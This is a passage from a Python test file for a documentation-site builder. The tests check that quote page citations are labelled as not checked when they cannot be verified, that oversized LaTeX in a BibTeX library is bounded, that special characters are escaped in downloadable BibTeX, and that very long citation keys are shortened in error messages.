    assert problem.text().split(" error: ")[1].startswith(said)


def test_a_page_a_plain_text_cannot_check_is_shown_as_not_checked(mini: Path) -> None:
    """Issue 25 round four, 5: the quote was labelled checked as a whole, its page too."""
    _quoting(mini, "leaders convene", "para 2, p. 999")
    site = build_site(mini / "mkdocs.yml")
    said = "".join(_parse(site / "sources" / "alpha-study.html").text)
    assert "checked against the text supplied with the contribution (p. 999: page not checked)" in said


@pytest.mark.timeout(GUARD_SECONDS)
@pytest.mark.parametrize(
    ("entries", "said"),
    [
        # 40 s and 2.4 GB once: 90,000 accented names in one author list.
        (
            "@article{many2020, author = {" + " and ".join(["{\\'E}e"] * 90_000) + "}, title = {T}, year = {2020}}",
            "references.bib:25:1: error: many2020.author: this list names 90,000 people; the site shows at most 100",
        ),
        # LaTeX spread over several entries: one problem, at the first past the budget.
        (
            "".join(
                f"@article{{w{i}, author = {{Z, Z}}, title = {{" + "{\\'E}t{\\'e} " * 4000 + "}, year = {2020}}\n"
                for i in range(8)
            ),
            "references.bib:31:1: error: w6.title: the library holds more than 300,000 characters of values "
            "written in LaTeX",
        ),
    ],
)
def test_a_library_s_latex_is_bounded(mini: Path, entries: str, said: str) -> None:
    bib = mini / "references.bib"
    bib.write_text(bib.read_text() + "\n" + entries)
    problems = [p for p in check_root(mini).problems if p.severity == "error"]  # (not the warnings: none is cited)
    assert len(problems) == 1 and said in problems[0].text(), format_problems(problems)[:500]


def test_bibtex_written_for_readers_escapes_what_latex_reads_as_markup(mini: Path) -> None:
    """Issue 25 round four, 13: a bare &, %, # or $ in a value stopped a reader's LaTeX run."""
    bib = mini / "references.bib"
    value = "title = {R&D: 50% of #1 for $5, \\& more}"
    bib.write_text(bib.read_text().replace("title  = {A work the study cites}", value))
    site = build_site(mini / "mkdocs.yml")
    written = (site / "downloads" / "references.bib").read_text(encoding="utf-8")
    assert "title = {R\\&D: 50\\% of \\#1 for \\$5, \\& more}" in written.replace("title  =", "title =")


def test_a_long_key_is_shortened_where_a_message_names_it(mini: Path) -> None:
    bib = mini / "references.bib"
    key = "k" + "x" * 3000
    bib.write_text(bib.read_text() + f"\n@article{{{key},\n  title = {{A\n  year = {{2020}},\n}}\n")
    said = format_problems([p for p in check_root(mini).problems if p.file == "references.bib"])
    assert "kxxx" in said and key not in said
